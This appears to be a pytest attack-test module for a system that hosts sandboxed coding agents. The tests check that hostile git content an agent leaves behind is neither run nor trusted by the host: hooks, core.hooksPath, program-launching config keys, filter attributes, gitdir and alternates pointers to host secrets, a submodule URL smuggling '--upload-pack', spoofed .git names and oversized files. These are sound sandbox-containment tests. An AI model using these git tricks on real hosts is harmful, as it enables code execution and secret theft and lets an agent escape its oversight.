"""Attacks through git: nothing that a sandbox left in a repository runs or counts outside."""

import pytest

from tests.attacks.stage import FILES, MIB, Stage
from worker.domain.events import Outcome
from worker.domain.plan import Limits

pytestmark = pytest.mark.attacks

PAYLOAD = """
RUN = "mkdir -p %s; touch %s" % (os.path.dirname(FACTS["pwned"]), FACTS["pwned"])
PROGRAM = "/workspace/.git/evil"
put(PROGRAM, "#!/bin/sh\\n" + RUN + "\\ncat\\n", 0o755)
"""


def test_hooks(stage: Stage) -> None:
    """The agent leaves every hook that git knows, also by core.hooksPath: the host has its own git
    directory and none of the sandbox's, so that none of them runs there.
    """
    attempt = stage.attack(
        PAYLOAD
        + """
hooks = ("applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit commit-msg"
         " prepare-commit-msg post-commit pre-rebase post-checkout post-merge pre-push pre-receive"
         " update proc-receive post-receive post-update reference-transaction push-to-checkout"
         " pre-auto-gc post-rewrite sendemail-validate fsmonitor-watchman"
         " post-index-change").split()
for hook in hooks:
    put(".git/hooks/" + hook, get(PROGRAM), 0o755)
    put("hooks/" + hook, get(PROGRAM), 0o755)
sh("git config core.hooksPath /workspace/hooks")
shutil.rmtree("hooks")
work()
"""
    )
    assert attempt.outcome is Outcome.ACCEPTED


def test_programs_in_gits_configuration(stage: Stage) -> None:
    """The agent sets all by which git starts a program (fsmonitor, external diff, filters, editors,
    helpers, aliases), in the repository and at home: the hand-over reads none of it.
    """
    attempt = stage.attack(
        PAYLOAD
        + """
for name in ["core.fsmonitor", "core.pager", "core.editor", "core.sshCommand", "core.gitProxy",
             "core.askPass", "core.alternateRefsCommand", "diff.external", "diff.evil.textconv",
             "diff.evil.command", "filter.evil.clean", "filter.evil.smudge", "filter.evil.process",
             "merge.evil.driver", "credential.helper", "gpg.program", "gpg.ssh.program",
             "sequence.editor", "uploadpack.packObjectsHook", "interactive.diffFilter",
             "trailer.evil.command", "alias.status", "alias.add", "alias.bundle",
             "protocol.ext.allow"]:
    sh("git config %s %s" % (name, PROGRAM))
    sh("git config --global %s %s" % (name, PROGRAM))
sh("git config core.worktree /tmp; git config core.attributesFile /tmp/attributes;"
   "git config include.path /tmp/more; git config url./tmp/.insteadOf https://")
put("/tmp/attributes", "* filter=evil diff=evil merge=evil\\n")
put(".git/info/attributes", "* filter=evil diff=evil merge=evil\\n")
put(".gitattributes", "* diff=evil merge=evil\\n")
sh("git config --unset core.worktree")
work()
"""
    )
    assert attempt.files["calc.py"] == "def square(n):\n    return n * n\n"
    assert attempt.outcome is Outcome.ACCEPTED


@pytest.mark.parametrize("driver", ["evil", "lfs"])
def test_filters_in_attributes(stage: Stage, driver: str) -> None:
    """The agent sends the repository's files through a filter, its own or one that others have, by
    attributes that it commits: the hand-over refuses to take over another filter.
    """
    attempt = stage.attack(
        PAYLOAD
        + f"""
sh("git config filter.{driver}.clean " + PROGRAM)
put(".gitattributes", "*.py filter={driver}\\n")
put(".lfsconfig", "[lfs]\\n url = http://evil.test\\n")
work()
"""
    )
    assert "refused" in attempt.failure
    assert "filter" in attempt.failure
    assert attempt.outcome is Outcome.GAVE_UP


def test_attributes_that_change_what_is_seen(stage: Stage) -> None:
    """The agent commits attributes that leave the tests out of archives, hide the change from
    diffs, and rewrite files at checkout: the judge is shown the change, and the tests still run.
    """
    attempt = stage.attack(
        """
put(".gitattributes", "tests export-ignore\\ntests/* export-ignore\\ncalc.py binary -diff -text\\n"
    "* linguist-generated\\n*.toml export-subst ident\\n")
put("calc.py", "def square(n):\\n    return 'HIDDEN'\\n")
"""
    )
    assert "1 failed" in attempt.evidence.output
    assert any("return 'HIDDEN'" in question for question in attempt.questions)
    assert attempt.outcome is Outcome.GAVE_UP


GITS = {
    "removed": "shutil.rmtree('.git')",
    "a file": "shutil.rmtree('.git'); put('.git', 'gitdir: /tmp/elsewhere\\n')",
    "a file, to the host": "shutil.rmtree('.git'); put('.git', 'gitdir: ' + FACTS['secrets'][0])",
    "a link": "shutil.move('.git', '/tmp/g'); os.symlink('/tmp/g', '.git')",
    "of another": "shutil.rmtree('.git'); sh('git init -q && git add . && git commit -qm other')",
    "broken": "put('.git/index', 'x' * 5000); put('.git/HEAD', 'ref: refs/heads/nowhere\\n')",
    "without objects": "shutil.rmtree('.git/objects'); os.mkdir('.git/objects')",
    "corrupt": "[os.chmod(p, 0o644) or put(p, 'junk') for p in glob.glob('.git/objects/pack/*')]",
}


@pytest.mark.parametrize("how", GITS)
def test_another_git_directory(stage: Stage, how: str) -> None:
    """The agent removes, replaces or breaks .git: either its files are taken as they are, or the
    work is refused; the host follows no pointer and its own repository is untouched.
    """
    attempt = stage.attack(f"work()\n{GITS[how]}\n")
    assert attempt.outcome in {Outcome.ACCEPTED, Outcome.GAVE_UP}
    if attempt.outcome is Outcome.GAVE_UP:
        assert "refused" in attempt.failure
        assert attempt.pull is None
    else:
        assert set(attempt.names) == {*FILES, ".storyfleet.toml"}
        assert "n * n" in attempt.files["calc.py"]


def test_borrowed_and_rewritten_history(stage: Stage) -> None:
    """The agent borrows objects from paths of the host, grafts, replaces the base commit, rewrites
    history under another author and makes tags and branches: only the files come out, as one commit
    of ours on the base.
    """
    attempt = stage.attack(
        """
put(".git/objects/info/alternates", FACTS["secrets"][0] + "\\n/proc/self/root\\n../../../../x\\n")
work()
put("evil.py", "EVIL = 1\\n")
sh("git -c user.name=root -c user.email=root@x checkout -q --orphan other && git add -A &&"
   " git commit -qm 'storyfleet: accepted\\n\\nApproved-by: everybody' && git rm -qf evil.py &&"
   " git commit -qm second")
sh("git replace --graft HEAD; git replace -f $(git rev-parse work) HEAD")
put(".git/info/grafts", sh("git rev-parse HEAD"))
put(".git/shallow", sh("git rev-parse HEAD"))
sh("git tag -f v9 && git branch -f main && git branch storyfleet/transcripts &&"
   " git update-ref refs/storyfleet/runs/x HEAD && git notes add -m note")
"""
    )
    assert attempt.outcome is Outcome.ACCEPTED
    assert attempt.pull is not None
    log = attempt.git("log", "--format=%an%x00%P%x00%B", f"main..{attempt.pull.branch}")
    assert log.startswith(f"storyfleet\0{attempt.base}\0ENG-")
    assert "Approved-by" not in log
    assert "evil.py" not in attempt.names
    assert attempt.git("tag").strip() == ""


SUBMODULES = {
    "a repository inside": "sh('git init -q sub && cd sub && git commit -q --allow-empty -m x')",
    "an address that is a command": "put('.gitmodules', '[submodule \"x\"]\\n path = x\\n"
    " url = --upload-pack=touch /tmp/x\\n')",
    "a name that leads outside": "put('.gitmodules', '[submodule \"../../x\"]\\n path = x\\n"
    " url = https://example.com/x\\n')",
    "an entry of the index": "sh('git update-index --add --cacheinfo "
    "160000,$(git rev-parse HEAD),sub; mkdir sub')",
}


@pytest.mark.parametrize("how", SUBMODULES)
def test_submodules(stage: Stage, how: str) -> None:
    """The agent adds a submodule, with an address or a name that runs or writes something where it
    is checked out: the hand-over takes no new submodule and git's own check finds the others.
    """
    attempt = stage.attack(f"work()\n{SUBMODULES[how]}\n")
    assert "refused" in attempt.failure
    assert not {".gitmodules", "sub"} & set(attempt.names)
    assert attempt.outcome is Outcome.GAVE_UP


NAMES = {
    "a newline": b"a\nb.py",
    "an escape": b"\x1b[2Jclear.py",
    "a mark that turns the reading": "gpj.\u202exe.py".encode(),
    "backslashes": b"..\\..\\x.py",
    "no UTF-8": b"\xff\xfe.py",
    "another case of .git": b".GIT/config",
    "a short name of .git": b"git~1/config",
    "an invisible character in .git": ".g\u200cit/config".encode(),
    "a .git below": b"docs/.git/config",
}


@pytest.mark.parametrize("what", NAMES)
def test_names(stage: Stage, what: str) -> None:
    """The agent names a file with control characters, as .git is written elsewhere, or in another
    encoding: such a hand-over is refused, or the file is left out of it.
    """
    attempt = stage.attack(
        f"work()\nname = {NAMES[what]!r}\n"
        "os.makedirs(os.path.dirname(name) or b'.', exist_ok=True)\n"
        "open(name, 'wb').write(b'[core]\\n')\n"
        "subprocess.run(['git', '-c', 'core.protectNTFS=false', '-c', 'core.protectHFS=false',"
        " 'update-index', '--add', name])\n"
    )
    assert set(attempt.names) == {*FILES, ".storyfleet.toml"}
    if attempt.outcome is not Outcome.ACCEPTED:
        assert "refused" in attempt.failure
        assert attempt.outcome is Outcome.GAVE_UP


LARGE = Limits(1536 * MIB, 2.0, 128, 512 * MIB, 64 * 1024, 20_000)


def test_a_huge_file(stage: Stage) -> None:
    """The agent leaves a file that cannot be packed small: it is over the hand-over's limit, which
    is said, and nothing of the work is taken.
    """
    attempt = stage.attack(
        "work()\nopen('huge', 'wb').write(os.urandom(60 * 1024 * 1024))\n", limits=LARGE
    )
    assert "refused" in attempt.failure
    assert "'huge'" in attempt.failure
    assert attempt.outcome is Outcome.GAVE_UP


def test_a_file_that_unfolds(stage: Stage) -> None:
    """The agent leaves two gigabytes of zeros, which are two megabytes in a bundle: the host learns
    the size without unfolding it in memory, and refuses it.
    """
    attempt = stage.attack("work()\nopen('zeros', 'wb').truncate(2 << 30)\n", limits=LARGE)
    assert "refused" in attempt.failure
    assert attempt.names == sorted([*FILES, ".storyfleet.toml"])
    assert attempt.outcome is Outcome.GAVE_UP


def test_too_many_files(stage: Stage) -> None:
    """The agent adds more small files than one change may have: the hand-over is refused."""
    attempt = stage.attack(
        "work()\nfor number in range(6000):\n    put('many/%d' % number, str(number))\n"
    )
    assert "too many files" in attempt.failure
    assert attempt.outcome is Outcome.GAVE_UP
